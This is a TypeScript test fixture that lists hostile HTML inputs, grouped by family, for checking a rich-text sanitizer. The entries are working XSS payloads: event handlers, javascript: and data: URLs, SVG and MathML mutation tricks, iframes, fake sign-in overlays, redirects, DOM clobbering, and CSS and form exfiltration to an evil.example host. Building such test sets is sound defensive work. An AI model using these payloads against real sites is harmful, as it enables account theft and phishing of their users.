/** What someone could write into a rich text past the editor, by family (docs/architecture.md, "Faults and attacks"). */
export const hostileHtml: [family: string, html: string][] = [
  ['a script', '<p>Hello</p><script>window.attacked=1</script>'],
  ['a script in capitals over lines', '<SCRIPT\n>window.attacked=1</SCRIPT >'],
  ['an unclosed script', '<p>x<script>window.attacked=1'],
  ['an event handler', '<p onclick="window.attacked=1" onmouseover=window.attacked=1>Hello</p>'],
  ['an image that fails', '<img src=x onerror="window.attacked=1">'],
  ['an image that fails, with odd separators', '<img/src="x"/onerror=window.attacked=1>'],
  [
    'an image that calls home',
    '<img src="https://evil.example/seen.gif" srcset="//evil.example/x">',
  ],
  ['an animation that starts', '<p style="animation:x" onanimationstart="window.attacked=1">x</p>'],
  ['focus by itself', '<input autofocus onfocus=window.attacked=1>'],
  [
    'a disclosure that opens',
    '<details open ontoggle=window.attacked=1><summary>x</summary></details>',
  ],
  ['javascript: as a link', '<a href="javascript:window.attacked=1">read on</a>'],
  ['javascript: in disguise', '<a href=" java&#x09;script&colon;window.attacked=1">read on</a>'],
  [
    'javascript: as an action',
    '<form action="javascript:window.attacked=1"><button>Go</button></form>',
  ],
  [
    'a data: document',
    '<object data="data:text/html,<script>window.attacked=1</script>"></object>',
  ],
  ['a data: link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  ['a drawing', '<svg onload="window.attacked=1"><circle r="9"/></svg>'],
  ['a drawing with a script', '<svg><script>window.attacked=1</script></svg>'],
  [
    'a drawing that animates a link',
    '<svg><a><animate attributeName=href values=javascript:window.attacked=1 /><text y=20>x</text></a></svg>',
  ],
  [
    'a drawing that links',
    '<svg><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4#x"></use></svg>',
  ],
  [
    'a mutation by MathML',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.attacked=1&gt;">',
  ],
  [
    'a mutation by a form in MathML',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.attacked=1>',
  ],
  [
    'a mutation by noscript',
    '<noscript><p title="</noscript><img src=x onerror=window.attacked=1>"></noscript>',
  ],
  ['a mutation by template', '<template><p><script>window.attacked=1</script></p></template>'],
  ['a mutation by comment', '<!--><img src=x onerror=window.attacked=1>-->'],
  [
    'a mutation by select',
    '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=window.attacked=1>">',
  ],
  [
    'a frame with its own document',
    '<iframe srcdoc="<script>parent.attacked=1</script>"></iframe>',
  ],
  ['a frame of another site', '<iframe src="https://evil.example/"></iframe>'],
  [
    'an overlay over the page',
    '<div style="position:fixed;inset:0;z-index:9999;background:#fff">Sign in again</div>',
  ],
  [
    'an overlay by classes of ours',
    '<p class="fixed inset-0 z-50 bg-paper backdrop:bg-black/50">Sign in again</p>',
  ],
  [
    'styles that call home',
    '<style>@import url(//evil.example/x.css);input[value^=a]{background:url(//evil.example/a)}</style>',
  ],
  [
    'a style attribute that calls home',
    '<p style="background:url(https://evil.example/seen)">x</p>',
  ],
  [
    'a form for passwords',
    '<form action="https://evil.example/"><input type=password name=p><input type=submit></form>',
  ],
  [
    'a button that sends a form of ours',
    '<button form="login" formaction="https://evil.example/">Go</button>',
  ],
  ['a base address', '<base href="https://evil.example/">'],
  ['a redirect', '<meta http-equiv=refresh content="0;url=https://evil.example/">'],
  ['a stylesheet', '<link rel=stylesheet href="https://evil.example/x.css">'],
  [
    'names that hide ours',
    '<p id="main" name="attacked">x</p><a id=attacked></a><a id=attacked name=x></a>',
  ],
  [
    'an island of ours',
    '<astro-island component-url="data:text/javascript,window.attacked=1" client="load" ssr></astro-island>',
  ],
  ['a part of an island', '<astro-slot name="summary"><ul><li>x</li></ul></astro-slot>'],
  [
    'a popover of ours',
    '<button popovertarget="menu">Menu</button><div popover id="menu2">x</div>',
  ],
  [
    'a video',
    '<video src=x onerror=window.attacked=1></video><audio src=x onerror=window.attacked=1>',
  ],
  [
    'the end of what holds it',
    '</div></article></main></body></html><script>window.attacked=1</script>',
  ],
  ['the end of a CDATA section', ']]><script>window.attacked=1</script>'],
  ['the end of a script block', '</script><script>window.attacked=1</script>'],
  ['a processing instruction', '<?xml-stylesheet href="javascript:window.attacked=1"?><p>x</p>'],
  [
    'a link with a target',
    '<a href="https://evil.example/" target="_blank" ping="//evil.example">x</a>',
  ],
  // Taking a tag away must not leave another one behind.
  ['a handler around a tag that goes', '<<b>p onclick="window.attacked=1">x'],
  ['an image around a tag that goes', '<<b>img src=x onerror=window.attacked=1>'],
  ['a style around a tag that goes', '<<b>p style="position:fixed;inset:0">Sign in again'],
  ['markup in an attribute', '<p title="><img src=x onerror=window.attacked=1>">x</p>'],
];

/** Markup where words belong. */
export const hostileText = '<img src=x onerror="window.attacked=1">';
